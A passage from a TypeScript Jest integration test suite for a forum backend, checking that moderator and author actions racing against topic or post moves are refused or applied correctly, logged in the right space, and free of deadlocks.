      const topic = await createTopic(t, author.token, from, { title: 'Made a wiki by a moderator behind a real move', body: 'x' });
      const made = await reply(t, reader.token, topic.id, 'not a wiki');
      // moderator moderates the topic's first space, not the one it moves to.
      expectError(await behindARealMove(topic.id, () => t.gql(WIKI, { id: made.id, wiki: true }, { token: moderator.token })), 'FORBIDDEN');
      expect(await t.sql(`SELECT space_id, wiki FROM posts WHERE id = $1`, [made.id])).toEqual([{ space_id: to.space, wiki: false }]);
      expect(await t.sql(`SELECT action FROM moderation_log WHERE target_id = $1 AND action = 'post.wiki'`, [made.id])).toEqual([]);
    });

    it('a reply deleted, or restored, by a moderator of the space a move took its topic out of while they waited: FORBIDDEN, nothing written', async () => {
      const topic = await createTopic(t, author.token, from, { title: 'Deleted by a moderator behind a real move', body: 'x' });
      const deleted = await reply(t, reader.token, topic.id, 'not deleted');
      // moderator moderates the topic's first space, not the one it moves to.
      expectError(await behindARealMove(topic.id, () => t.gql(`mutation($id: ID!) { deletePost(id: $id) { id } }`, { id: deleted.id }, { token: moderator.token })), 'FORBIDDEN');
      expect(await t.sql(`SELECT space_id, state FROM posts WHERE id = $1`, [deleted.id])).toEqual([{ space_id: to.space, state: 'VISIBLE' }]);
      // Back in its first space, deleted there by its author, then restored by moderator as it moves again.
      expectOk(await t.gql(MOVE_TOPIC, { input: { topicId: topic.id, boardId: from } }, { token: admin.token }));
      expectOk(await t.gql(`mutation($id: ID!) { deletePost(id: $id) { id } }`, { id: deleted.id }, { token: reader.token }));
      expectError(await behindARealMove(topic.id, () => t.gql(`mutation($id: ID!) { restorePost(id: $id) { id } }`, { id: deleted.id }, { token: moderator.token })), 'FORBIDDEN');
      expect(await t.sql(`SELECT space_id, state FROM posts WHERE id = $1`, [deleted.id])).toEqual([{ space_id: to.space, state: 'DELETED' }]);
      expect(await t.sql(`SELECT action FROM moderation_log WHERE target_id = $1 AND action IN ('post.delete', 'post.restore')`, [deleted.id])).toEqual([]);
    });

    it('a reply deleted by a moderator while a move holds its topic: its log entry names the space the move put it in', async () => {
      const topic = await createTopic(t, author.token, from, { title: 'Deleted by an admin behind a real move', body: 'x' });
      const deleted = await reply(t, reader.token, topic.id, 'soon deleted');
      expectOk(await behindARealMove(topic.id, () => t.gql(`mutation($id: ID!) { deletePost(id: $id) { id } }`, { id: deleted.id }, { token: admin.token })));
      expect(await t.sql(`SELECT space_id FROM moderation_log WHERE target_id = $1 AND action = 'post.delete'`, [deleted.id])).toEqual([{ space_id: to.space }]);
    });

    it('a reaction to a reply while a move holds its topic: its reaction.updated names the board and space the move put it in', async () => {
      const topic = await createTopic(t, author.token, from, { title: 'Liked behind a real move', body: 'x' });
      const liked = await reply(t, author.token, topic.id, 'soon liked');
      const [{ last }] = await t.sql(`SELECT coalesce(max(id), 0)::text AS last FROM outbox`);
      expectOk(await behindARealMove(topic.id, () => t.gql(REACT, { input: { postId: liked.id, kind: 'LIKE' } }, { token: reader.token })));
      expect(
        await t.sql(`SELECT payload->>'boardId' AS board, payload->>'spaceId' AS space FROM outbox WHERE id > $1::bigint AND type = 'reaction.updated' AND payload->>'postId' = $2`, [last, liked.id]),
      ).toEqual([{ board: to.board, space: to.space }]);
    });

    it('a topic timer set by a moderator of the space a move takes the topic out of as it fires: dropped, the topic left open', async () => {
      const HOUR = 3600_000;
      const topic = await createTopic(t, author.token, from, { title: 'Timed to close behind a real move', body: 'x' });
      const SET_TIMER = `mutation($i: SetTopicTimerInput!) { setTopicTimer(input: $i) { id } }`;
      // moderator moderates the topic's first space, not the one it moves to.
      expectOk(await t.gql(SET_TIMER, { i: { topicId: topic.id, kind: 'CLOSE', at: new Date(Date.now() + HOUR).toISOString() } }, { token: moderator.token }));
      let counts: unknown;
      try {
        await behindARealMove(topic.id, async () => ({ data: { counts: (counts = await t.get(TopicTimersService).fireDue(new Date(Date.now() + 2 * HOUR))) } }) as GqlResult);
        expect(counts).toEqual({ fired: 0, dropped: 1, postponed: 0 });
        expect(await t.sql(`SELECT space_id, closed FROM topics WHERE id = $1`, [topic.id])).toEqual([{ space_id: to.space, closed: false }]);
        expect(await t.sql(`SELECT action FROM moderation_log WHERE target_id = $1 AND action = 'topic.status'`, [topic.id])).toEqual([]);
      } finally {
        await t.sql(`DELETE FROM topic_timers WHERE topic_id = $1`, [topic.id]);
      }
    });

    it('a reply edited by a moderator of the space a move took its topic out of while they waited: FORBIDDEN, nothing written; by an admin, CONFLICT (its checks read the old space), nothing written', async () => {
      const topic = await createTopic(t, author.token, from, { title: 'Edited by a moderator behind a real move', body: 'x' });
      const edited = await reply(t, reader.token, topic.id, 'as its author wrote it');
      const EDIT = `mutation($input: EditPostInput!) { editPost(input: $input) { id } }`;
      // moderator moderates the topic's first space, not the one it moves to.
      expectError(await behindARealMove(topic.id, () => t.gql(EDIT, { input: { postId: edited.id, body: 'as a moderator of the old space rewrote it' } }, { token: moderator.token })), 'FORBIDDEN');
      expect(await t.sql(`SELECT space_id, body_source FROM posts WHERE id = $1`, [edited.id])).toEqual([{ space_id: to.space, body_source: 'as its author wrote it' }]);
      expect(await t.sql(`SELECT action FROM moderation_log WHERE target_id = $1 AND action = 'post.edit'`, [edited.id])).toEqual([]);
      // Back in its first space, then edited by an admin as it moves again.
      expectOk(await t.gql(MOVE_TOPIC, { input: { topicId: topic.id, boardId: from } }, { token: admin.token }));
      expectError(await behindARealMove(topic.id, () => t.gql(EDIT, { input: { postId: edited.id, body: 'as an admin rewrote it' } }, { token: admin.token })), 'CONFLICT');
      expect(await t.sql(`SELECT space_id, body_source FROM posts WHERE id = $1`, [edited.id])).toEqual([{ space_id: to.space, body_source: 'as its author wrote it' }]);
      expect(await t.sql(`SELECT action FROM moderation_log WHERE target_id = $1 AND action = 'post.edit'`, [edited.id])).toEqual([]);
    });

    it('a reply edited by its author while a move takes its topic to a space that pre-moderates ALL: CONFLICT (edit it again), the reply as it was, nothing held', async () => {
      const topic = await createTopic(t, author.token, from, { title: 'Edited behind a move to a pre-moderated space', body: 'x' });
      const edited = await reply(t, author.token, topic.id, 'as approved where it was');
      const EDIT = `mutation($input: EditPostInput!) { editPost(input: $input) { id } }`;
      const SETTINGS = `mutation($input: UpdateSpaceInput!) { updateSpace(input: $input) { id } }`;
      // The space it moves to holds every edit for approval; the one it leaves holds none.
      expectOk(await t.gql(SETTINGS, { input: { spaceId: to.space, premoderation: 'ALL' } }, { token: admin.token }));
      try {
        const answer = await behindARealMove(topic.id, () => t.gql(EDIT, { input: { postId: edited.id, body: 'screened by the rules of the space it left' } }, { token: author.token }));
        expect(expectError(answer, 'CONFLICT').message).toBe('The topic moved while your edit was on its way: make it again');
        expect(await t.sql(`SELECT space_id, body_source FROM posts WHERE id = $1`, [edited.id])).toEqual([{ space_id: to.space, body_source: 'as approved where it was' }]);
        expect(await t.sql(`SELECT 1 FROM post_pending_edits WHERE post_id = $1`, [edited.id])).toEqual([]);
        // Made again, it is judged where the topic now is: held for approval.
        expectOk(await t.gql(EDIT, { input: { postId: edited.id, body: 'screened by the rules of the space it left' } }, { token: author.token }));
        expect(await t.sql(`SELECT body_source FROM posts WHERE id = $1`, [edited.id])).toEqual([{ body_source: 'as approved where it was' }]);
        expect(await t.sql(`SELECT count(*)::int AS n FROM post_pending_edits WHERE post_id = $1`, [edited.id])).toEqual([{ n: 1 }]);
      } finally {
        expectOk(await t.gql(SETTINGS, { input: { spaceId: to.space, premoderation: 'OFF' } }, { token: admin.token }));
      }
    });

    it('a reaction to a reply while the topic moves: both done, no deadlock', async () => {
      const topic = await createTopic(t, author.token, from, { title: 'Moved as a reply is liked', body: 'x' });
      const liked = await reply(t, author.token, topic.id, 'soon liked');
      const running: Array<Promise<unknown>> = [];
      // The reaction held at its insert (the reactions' table held), once it holds its locks.
      const table = await holdLock(t, `LOCK TABLE reactions IN SHARE MODE`, []);
      const deadlocks = await countingDeadlocks(async () => {
        try {
          const reacting = t.gql(REACT, { input: { postId: liked.id, kind: 'LIKE' } }, { token: reader.token });
          running.push(reacting);
          await table.waiting(1);
          const moving = move(topic.id);
          running.push(moving);
          await table.waiting(2);
          await table.release();
          expect(expectOk(await reacting).react.reactions).toEqual([{ kind: 'LIKE', count: 1 }]);
          expectOk(await moving);
        } finally {
          await table.release();
          await Promise.allSettled(running);
        }
      });
      expect(deadlocks).toBe(0);
      expect(await t.sql(`SELECT p.reaction_total, p.space_id, t.reaction_count FROM posts p JOIN topics t ON t.id = p.topic_id WHERE p.id = $1`, [liked.id])).toEqual([
        { reaction_total: 1, space_id: to.space, reaction_count: 1 },
      ]);
    });

    /**
     * `write` on a reply of `topic` that movePosts takes to `dest` meanwhile: the move held at its
     * outbox event (the outbox's table held) with both topics' rows locked, `write` started then
     * (it reads the reply in `topic`, then waits for that topic's row the move holds), and both let
     * go. Answers what `write` answered, once the move has committed.
     */
    const writtenAsMovePostsTakesIt = async (postId: string, dest: string, write: () => Promise<GqlResult>): Promise<GqlResult> => {
      const MOVE_POSTS = `mutation($input: MovePostsInput!) { movePosts(input: $input) { id } }`;
      const running: Array<Promise<unknown>> = [];
      const table = await holdLock(t, `LOCK TABLE outbox IN SHARE MODE`, []);
      try {
        const moving = t.gql(MOVE_POSTS, { input: { postIds: [postId], toTopicId: dest } }, { token: moderator.token });
        running.push(moving);
        await table.waiting(1);
        const writing = write();
        running.push(writing);
        await table.waiting(2);
        await table.release();
        expectOk(await moving);
        return await writing;
      } finally {
        await table.release();
        await Promise.allSettled(running);
      }
    };
    const replyAndElsewhere = async (what: string) => {
      const topic = await createTopic(t, author.token, from, { title: `A reply moves out as it is ${what}`, body: 'x' });
      const dest = await createTopic(t, author.token, from, { title: `Where the ${what} reply goes`, body: 'y' });
      return { topic: topic.id, dest: dest.id, post: (await reply(t, author.token, topic.id, 'soon elsewhere')).id };
    };

    it('a reaction to a reply that movePosts takes to another topic meanwhile: CONFLICT, nothing counted on either topic', async () => {
      const { topic, dest, post } = await replyAndElsewhere('liked');
      expectError(await writtenAsMovePostsTakesIt(post, dest, () => t.gql(REACT, { input: { postId: post, kind: 'LIKE' } }, { token: reader.token })), 'CONFLICT');
      expect(await t.sql(`SELECT p.topic_id, p.reaction_total FROM posts p WHERE p.id = $1`, [post])).toEqual([{ topic_id: dest, reaction_total: 0 }]);
      expect(await t.sql(`SELECT reaction_count FROM topics WHERE id = ANY ($1::uuid[])`, [[topic, dest]])).toEqual([{ reaction_count: 0 }, { reaction_count: 0 }]);
    });

    it('an edit of a reply that movePosts takes to another topic meanwhile (editPost, lockInTopic): CONFLICT, the reply as it was', async () => {
      const { dest, post } = await replyAndElsewhere('edited');
      const EDIT = `mutation($input: EditPostInput!) { editPost(input: $input) { id } }`;
      const refused = expectError(await writtenAsMovePostsTakesIt(post, dest, () => t.gql(EDIT, { input: { postId: post, body: 'edited as it moved' } }, { token: author.token })), 'CONFLICT');
      expect(refused.message).toBe(POST_MOVED);
      expect(await t.sql(`SELECT topic_id, body_source, edited_at FROM posts WHERE id = $1`, [post])).toEqual([{ topic_id: dest, body_source: 'soon elsewhere', edited_at: null }]);
      expect(await t.sql(`SELECT count(*)::int AS n FROM post_revisions WHERE post_id = $1`, [post])).toEqual([{ n: 1 }]);
    });

    it('a deletion of a reply that movePosts takes to another topic meanwhile (applyStateFrom, lockInTopic): CONFLICT, the reply still visible and counted where it went', async () => {
      const { topic, dest, post } = await replyAndElsewhere('deleted');
      const DELETE = `mutation($id: ID!) { deletePost(id: $id) { id } }`;
      const refused = expectError(await writtenAsMovePostsTakesIt(post, dest, () => t.gql(DELETE, { id: post }, { token: author.token })), 'CONFLICT');
      expect(refused.message).toBe(POST_MOVED);
      expect(await t.sql(`SELECT topic_id, state FROM posts WHERE id = $1`, [post])).toEqual([{ topic_id: dest, state: 'VISIBLE' }]);
      expect(await t.sql(`SELECT id, reply_count FROM topics WHERE id = ANY ($1::uuid[]) ORDER BY id = $2`, [[topic, dest], dest])).toEqual([
        { id: topic, reply_count: 0 },
        { id: dest, reply_count: 1 },
      ]);
    });

    /**
     * The queue's APPROVE (DELETE) of a report on a reply that a moderator moves on, topic after
     * topic, `hops` times: each time the decision, having read which topic the reply is in, is
     * about to hold that topic (`PostsService.holdTopic`), as movePosts may between that read and
     * that lock. Answers the decision, the deadlocks it met, and the topics the reply went through.
     */
    const decidedAsItMoves = async (hops: number) => {
      const MOVE_POSTS = `mutation($input: MovePostsInput!) { movePosts(input: $input) { id } }`;
      const REPORT = `mutation($input: ReportInput!) { report(input: $input) { id } }`;
      const RESOLVE = `mutation($input: ResolveReviewInput!) { resolveReviewItem(input: $input) { status } }`;
      const { topic, post } = await replyAndElsewhere(`moved ${hops} times`);
      const homes = [topic];
      for (let i = 0; i < hops; i++) homes.push((await createTopic(t, author.token, from, { title: `Home ${i + 1} of a reported reply`, body: 'z' })).id);
      expectOk(await t.gql(REPORT, { input: { targetType: 'POST', targetId: post, reason: 'SPAM' } }, { token: reader.token }));
      const [item] = await t.sql(`SELECT id FROM review_items WHERE target_type = 'POST' AND target_id = $1`, [post]);
      const next = new Map(homes.slice(0, -1).map((home, i) => [home, homes[i + 1]]));
      const posts = t.get(PostsService);
      const hold = posts.holdTopic.bind(posts);
      const moves: Array<Promise<GqlResult>> = [];
      const spy = jest.spyOn(posts, 'holdTopic').mockImplementation(async (tx, topicId) => {
        const to = next.get(topicId);
        if (to) {
          next.delete(topicId);
          const moving = t.gql(MOVE_POSTS, { input: { postIds: [post], toTopicId: to } }, { token: moderator.token });
          moves.push(moving);
          // Done, or waiting for the decision (which then waits for it in turn, if it holds the reply): queued behind the decision's backend, not any lock wait of the app's.
          await doneOrWaiting(t, moving, 1, await backendPid(tx));
        }
        return hold(tx, topicId);
      });
      let decided!: GqlResult;
      const deadlocks = await countingDeadlocks(async () => {
        try {
          decided = await t.gql(RESOLVE, { input: { id: item.id, decision: 'APPROVE', action: 'DELETE' } }, { token: moderator.token });
        } finally {
          spy.mockRestore();
          await Promise.allSettled(moves);
        }
      });
      for (const moved of await Promise.all(moves)) expectOk(moved);
      return { decided, deadlocks, homes, post, item: item.id as string };
    };

    it('the queue deciding a report on a reply moved on twice as it looks (moderationTarget): each move goes through, no deadlock, the reply deleted where it went', async () => {
      const { decided, deadlocks, homes, post } = await decidedAsItMoves(2);
      expect(expectOk(decided).resolveReviewItem.status).toBe('APPROVED');
      expect(deadlocks).toBe(0);
      expect(await t.sql(`SELECT topic_id, state FROM posts WHERE id = $1`, [post])).toEqual([{ topic_id: homes[2], state: 'DELETED' }]);
      expect(await t.sql(`SELECT count(*)::int AS n FROM topics WHERE id = ANY ($1::uuid[]) AND reply_count <> 0`, [homes])).toEqual([{ n: 0 }]);
    });

    it('the queue deciding a report on a reply moved on at each of its three looks (moderationTarget): CONFLICT (POST_MOVED), the reply and the item untouched', async () => {
      const { decided, deadlocks, homes, post, item } = await decidedAsItMoves(3);
      expect(expectError(decided, 'CONFLICT').message).toBe(POST_MOVED);
      expect(deadlocks).toBe(0);
      expect(await t.sql(`SELECT topic_id, state FROM posts WHERE id = $1`, [post])).toEqual([{ topic_id: homes[3], state: 'VISIBLE' }]);
      expect(await t.sql(`SELECT status FROM review_items WHERE id = $1`, [item])).toEqual([{ status: 'PENDING' }]);
    });
  });

  it('drains cleanly', async () => {
    await drain();
  });
});
